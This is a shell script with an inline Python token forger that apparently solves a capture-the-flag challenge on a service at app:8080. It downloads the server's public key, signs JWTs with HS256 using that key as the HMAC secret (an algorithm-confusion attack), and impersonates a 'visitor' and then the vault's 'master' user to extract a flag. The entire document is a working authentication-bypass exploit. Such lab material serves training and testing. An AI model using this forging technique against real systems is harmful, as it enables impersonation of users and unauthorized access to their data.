#-- the vault, a token and what it says
curl -s http://app:8080/
token=$(curl -s -X POST -d '' http://app:8080/token)
curl -s -H "Authorization: Bearer $token" http://app:8080/drawers
echo "$token" | cut -d. -f1 | base64 -d 2> /dev/null; curl -s http://app:8080/key.pem
#-- a token of one's own, signed by HMAC with the public key's file as the shared key
cat > /tmp/forge.py <<'PY'
import base64, hmac, json, sys, time
def encode(data):
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()
claims = {"sub": sys.argv[1], "exp": int(time.time()) + 600}
message = ".".join(encode(json.dumps(part).encode()) for part in ({"alg": "HS256", "typ": "JWT"}, claims))
print(message + "." + encode(hmac.digest(open("/tmp/key.pem", "rb").read(), message.encode(), "sha256")))
PY
curl -s http://app:8080/key.pem > /tmp/key.pem
curl -s -H "Authorization: Bearer $(python3 /tmp/forge.py visitor)" http://app:8080/drawers > /tmp/drawers
cat /tmp/drawers
#-- the master's drawer
master=$(grep -o 'master of the vault is [^.]*' /tmp/drawers | grep -o '[^ ]*$')
drawer=$(grep "kept by $master<" /tmp/drawers | grep -o '[a-z]*-[0-9]*' | head -1)
curl -s -H "Authorization: Bearer $(python3 /tmp/forge.py "$master")" "http://app:8080/drawer/$drawer" | grep -o 'flag{[0-9a-f]*}'
